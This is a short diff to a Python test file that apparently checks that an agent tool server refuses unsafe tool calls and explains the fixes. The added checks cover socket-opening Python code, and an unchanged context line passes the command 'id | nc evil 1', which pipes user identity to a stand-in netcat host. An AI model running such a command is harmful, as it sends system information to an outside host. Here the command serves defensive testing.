@@ -151,6 +151,10 @@ def test_refusals_say_what_to_change(place: Place, run: AgentRun) -> None:
             "run_program", {"argv": ["sh", "-c", "id | nc evil 1"], "purpose": "Look."}
         )
         assert said.is_error and answer(said)["status"] == "refused" and answer(said)["fixes"]
+        for code in ("import socket\nsocket.socket()", "def f():\n    yield 1\nf()"):
+            said = await client.call_tool("run_python", {**ASK, "code": code})
+            told = " ".join(answer(said)["fixes"])
+            assert said.is_error and 'use `where: "era"`' in told and "backend" not in told
         for arguments, words in (
             ({**ASK, "approve": True}, "there is no argument 'approve' here; there are: code"),
             ({**ASK, "time_limit_sec": 1 << 40}, "time_limit_sec: input should be less than"),
